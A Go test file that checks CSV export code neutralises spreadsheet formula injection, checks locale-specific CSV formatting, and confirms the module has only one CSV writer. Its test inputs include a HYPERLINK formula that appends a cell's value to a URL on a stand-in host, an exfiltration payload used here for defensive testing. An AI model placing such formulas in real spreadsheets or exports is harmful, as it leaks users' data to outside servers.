package documents

import (
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestInert(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"y")`: `'=HYPERLINK("http://x/?"&A1,"y")`,
		"=1+1":                            "'=1+1",
		"+33 1 23":                        "'+33 1 23",
		"-2+3":                            "'-2+3",
		"@SUM(A1:A2)":                     "'@SUM(A1:A2)",
		"\t=1":                            "'\t=1",
		"\r=1":                            "'\r=1",
		"-":                               "'-",
		"+":                               "'+",
		"-12.":                            "'-12.",
		"-.5":                             "'-.5",
		"-1e5":                            "'-1e5",
		"-1.2.3":                          "'-1.2.3",
		"-12.50":                          "-12.50",
		"-1234,56":                        "-1234,56",
		"+3":                              "+3",
		"-0":                              "-0",
		"12.50":                           "12.50",
		"":                                "",
		"Les Misérables":                  "Les Misérables",
		"a=b":                             "a=b",
		" =1":                             " =1",
	} {
		if got := Inert(in); got != want {
			t.Errorf("Inert(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVDialects(t *testing.T) {
	c := NewCSV(French)
	c.Row("oeuvre", "montant")
	c.Row(`=HYPERLINK("http://x/?"&A1,"y")`, French.Amount(-123456))
	c.Row("Titre; avec \"guillemets\"", French.Amount(5))
	b, err := c.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	if !strings.HasPrefix(s, "\ufeff") {
		t.Fatal("no byte-order mark")
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"oeuvre", "montant"}, {`'=HYPERLINK("http://x/?"&A1,"y")`, "-1234,56"}, {`Titre; avec "guillemets"`, "0,05"}}
	for i := range want {
		for j := range want[i] {
			if rows[i][j] != want[i][j] {
				t.Errorf("row %d cell %d = %q, want %q", i, j, rows[i][j], want[i][j])
			}
		}
	}
	p := NewCSV(Plain)
	p.Row("a", Plain.Amount(-1250))
	if b, _ := p.Bytes(); string(b) != "a,-12.50\n" {
		t.Errorf("plain CSV = %q", b)
	}
}

// Every CSV export goes through CSV: no other Go file of the module writes
// CSV with encoding/csv.
func TestNoOtherCSVWriter(t *testing.T) {
	root, err := filepath.Abs("../../..")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "go.mod")); err != nil {
		t.Fatalf("module root not found at %s", root)
	}
	own, _ := filepath.Abs("csv.go")
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == "frontend" || strings.HasPrefix(d.Name(), ".")) {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || path == own {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if strings.Contains(string(b), "csv.NewWriter(") {
			t.Errorf("%s writes CSV itself: use documents.NewCSV", strings.TrimPrefix(path, root+"/"))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
